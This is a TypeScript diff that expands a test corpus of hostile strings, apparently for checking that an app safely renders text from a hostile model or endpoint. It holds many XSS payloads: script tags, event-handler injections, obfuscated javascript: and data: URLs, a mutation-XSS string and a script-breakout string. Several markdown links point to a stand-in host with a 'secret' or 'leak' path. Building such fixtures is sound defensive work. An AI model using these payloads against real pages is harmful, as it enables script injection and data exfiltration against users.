@@ -1,5 +1,5 @@
 /** What a hostile model, scenario or endpoint might say. `pwned()` opens a dialog; elsewhere.example must never be asked. */
-export const hostileTexts: readonly string[] = [
+const written: readonly string[] = [
   "<script>alert('pwned')</script>",
   "<img src=x onerror=alert('pwned')>",
   "<svg onload=alert('pwned')></svg>",
@@ -21,4 +21,40 @@ export const hostileTexts: readonly string[] = [
   "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('pwned')&gt;\">",
   "<base href=\"https://elsewhere.example/\">${alert('pwned')}{{constructor.constructor('alert(1)')()}}",
   "[ref]: https://elsewhere.example/leak.png\n![x][ref] <video src=https://elsewhere.example/v autoplay>",
+];
+
+const handlers = [
+  "onload",
+  "onerror",
+  "onclick",
+  "onfocus",
+  "onmouseover",
+  "ontoggle",
+  "onanimationstart",
+  "onpointerenter",
+];
+const elements = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee"];
+const targets = [
+  "javascript:alert('pwned')",
+  "java\tscript:alert('pwned')",
+  "&#106;avascript:alert('pwned')",
+  " javascript:alert('pwned')",
+  "javascript&colon;alert('pwned')",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduZWQnKTwvc2NyaXB0Pg==",
+  "https://elsewhere.example/?secret=3",
+];
+const places = [
+  (target: string) => `[click](<${target}>)`,
+  (target: string) => `<${target}>`,
+  (target: string) => `![x](${target})`,
+];
+
+/** A hundred and more of them: those written by hand, every handler on every element, every address in every place. */
+export const hostileTexts: readonly string[] = [
+  ...written,
+  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=alert('pwned')>`)),
+  ...targets.flatMap((target) => places.map((place) => place(target))),
+  "</script><script>alert('pwned')</script>",
+  "<!--<script>alert('pwned')</script>",
+  "__REHEARSAL_REPORT_DATA__</script><script>alert('pwned')</script>",
 ];
